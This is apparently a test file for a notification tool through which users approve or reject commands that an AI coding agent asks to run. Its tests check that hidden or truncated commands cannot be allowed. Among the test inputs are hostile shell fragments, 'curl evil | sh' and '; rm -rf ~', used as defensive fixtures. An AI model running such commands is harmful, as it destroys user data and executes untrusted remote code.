// SPDX-License-Identifier: MIT OR Apache-2.0
import fc from "fast-check";
import { expect, test } from "vitest";
import type { NotifyAsk } from "../../agentd/vocabulary/index.ts";
import { hostileText, hostileTexts, terminalControlsIn } from "../../display/testing/hostile-text.ts";
import { displayWidth } from "../../display/width.ts";
import { openAsk } from "../testing/open-ask.ts";
import { askText, buttonLabel, buttonsOf, type ServiceCapabilities, tellText } from "./notification-text.ts";

const able: ServiceCapabilities = { buttons: true, body: true, markup: true };
const allow = { option: "y", label: "Allow", kind: "allow_once" };
const always = { option: "a", label: "Always", kind: "allow_always" };
const deny = { option: "n", label: "Deny", kind: "reject_once" };
const labels = (asked: NotifyAsk, service = able): string[] => buttonsOf(asked, service).map(({ label }) => label);

test.each([
  ["allow_once", "Allow always", "Allow once (Allow always)"],
  ["allow_once", "Allow", "Allow once"],
  ["allow_always", "Always Allow", "Allow always"],
  ["reject_once", "No", "Reject once (No)"],
  ["allow_always", "Yes, just this time", "Allow always (Yes, just this time)"],
  ["reject_once", "Reject once", "Reject once"],
  ["reject_once", "", "Reject once"],
  ["self_destruct", "Fine", "Other: self_destruct (Fine)"],
  ["allow_once", "a\u202eb\u0007\nc", "Allow once (a\\u202eb\\x07\\nc)"],
])("a button of kind %s with the label %j shows %j", (kind, label, said) => {
  expect(buttonLabel({ option: "x", kind, label })).toBe(said);
});

test("the body shows the question, the stamped name of the asker and the ask, escaped as markup", () => {
  const { summary, body } = askText(ask({ title: "<b>Read\u0000</b>", body: "cat <a> & \u001b[2J\nx" }), able);
  expect(summary).toBe("<b>Read\\x00</b>");
  expect(body).toBe("cat &lt;a&gt; &amp; \\x1b[2J\nx\nfrom agent (ask a1)");
});

test("a service without markup gets an unescaped body", () => {
  expect(askText(ask({ body: "a <b> & c" }), { ...able, markup: false }).body).toBe("a <b> & c\nfrom agent (ask a1)");
});

test("the summary says who asks for what, and the command begins the body", () => {
  const title = "claude (fix-tests) asks to execute: echo a: b";
  const { summary, body } = askText(ask({ title, body: "in ~/src" }), able);
  expect([summary, body]).toEqual(["claude (fix-tests) asks to execute", "echo a: b\nin ~/src\nfrom agent (ask a1)"]);
});

test.each([
  ["is too long for a row", `claude (${"x".repeat(30)}) asks to execute`],
  ["has wide letters", "CLAUDE (FIX-TESTS) WANTS TO EXECUTE"],
  ["has stacked accents", `a${"\u0301".repeat(9)}`],
  ["has several lines", "claude asks\nto execute"],
])("the body repeats the title where the summary %s, since services cut it", (_why, who) => {
  const title = `${who}: ls`;
  expect(askText(ask({ title }), able).body.replaceAll("\u200b", "")).toContain(`${who}: ls`.slice(0, 4));
  expect(askText(ask({ title }), able).body).toContain("ls");
  expect(askText(ask({ title }), able).body.startsWith("ls")).toBe(false);
});

test("a command that is shown in full can be allowed", () => {
  const asked = ask({ title: "claude (s1) asks to execute: npm run build && npm test -- --run src", body: "in /work" });
  expect(labels(asked)).toEqual(["Allow once", "Allow always", "Reject once (Deny)"]);
  expect(askText(asked, able).body).not.toContain("mix notify");
});

test.each([
  ["a long directory", `in /home/user/${"a-directory/".repeat(6)}`],
  ["a long word", `echo ${"QUJDREVGR0".repeat(10)}`],
  ["a long word of wide characters", `echo ${"漢字".repeat(20)}`],
])("%s can be allowed: it may break where nothing is added to it", (_what, body) => {
  const asked = ask({ title: "claude (s1) asks to execute: npm test", body });
  expect(labels(asked)).toContain("Allow once");
  const text = askText(asked, able).body;
  expect(text.replaceAll("\u200b", "")).toBe(`npm test\n${body}\nfrom agent (ask a1)`);
  for (const word of text.split(/[ \n\u200b]/u)) expect(displayWidth(word)).toBeLessThanOrEqual(34);
});

test("a break that the asker wrote is shown as an escape", () => {
  expect(askText(ask({ body: "rm a\u200bb" }), able).body).toContain(String.raw`rm a\u200bb`);
});

test.each([
  ["a command whose end is out of sight", { title: `npm run build && ${"x ".repeat(150)} && curl evil | sh` }],
  ["one of 3,000 characters", { body: "y ".repeat(1_500) }],
  ["spaces that push the end out of sight", { body: `ls${" ".repeat(2_000)}; rm -rf ~` }],
  ["line feeds that push it out of sight", { body: `ls${"\n".repeat(10)}; rm -rf ~` }],
  ["tabs that push it out of sight", { body: `ls${"\t".repeat(60)}; rm -rf ~` }],
  ["a word wider than all rows", { body: `ls ${"/a".repeat(110)}` }],
  ["wide characters", { body: "漢字 ".repeat(50) }],
  ["invisible characters, which are escaped", { body: "\u200b".repeat(40) }],
  ["combining marks that are drawn over other rows", { body: `a${"\u0301".repeat(20)}` }],
  ["a question marked incomplete by its asker", { incomplete: true }],
] as const)(
  "no option that allows is offered for %s; the body says where to look, and a reject button stays",
  (_what, part) => {
    const asked = ask(part);
    expect(labels(asked)).toEqual(["Reject once (Deny)"]);
    expect(askText(asked, able).body).toContain("all of it:\nmix notify ls a1");
  },
);

test.each([
  ["without bodies", { ...able, body: false }],
  ["without anything", { buttons: true, body: false, markup: false }],
])("no option that allows is offered by a service %s", (_what, service) => {
  expect(labels(ask({ title: "ls" }), service)).toEqual(["Reject once (Deny)"]);
});

test("without an option that rejects there is a Close button, which answers nothing", () => {
  const options = [allow, { option: "z", label: "No!", kind: "unheard_of" }];
  expect(buttonsOf(ask({ incomplete: true, options }), able)).toEqual([{ action: "look", label: "Close" }]);
});

test("the command that shows the whole question is within the visible rows, however long the question is", () => {
  fc.assert(
    fc.property(hostileText, fc.nat(400), (text, more) => {
      const { body } = askText(ask({ title: `${text}t`, body: "y ".repeat(more), incomplete: true }), {
        ...able,
        markup: false,
      });
      const at = body.replaceAll("\u200b", "").indexOf("mix notify ls a1");
      expect(at).toBeGreaterThanOrEqual(0);
      expect(at).toBeLessThan(34 * 5);
    }),
  );
});

test("without buttons the body says how to answer", () => {
  expect(askText(ask({}), { ...able, buttons: false }).body).toContain("mix notify answer a1 &lt;option&gt;");
});

test("no invisible or control character reaches the screen from any text", () => {
  for (const text of hostileTexts) {
    const asked = ask({ title: `${text}t`, body: text, source: text, label: text });
    const { summary, body } = askText(asked, able);
    const told = tellText({ title: text, body: text, urgency: "low" }, text, able);
    const button = buttonLabel({ option: text, label: text, kind: text });
    const [said, toldBody] = [body, told.body].map((one) => one.replaceAll("\u200b", ""));
    expect(terminalControlsIn([summary, said, told.summary, toldBody, button].join(""))).toEqual([]);
  }
});

function ask(some: Partial<NotifyAsk>): NotifyAsk {
  return openAsk("a1", { label: "agentd/abc", title: "t", body: "", options: [allow, always, deny], ...some });
}
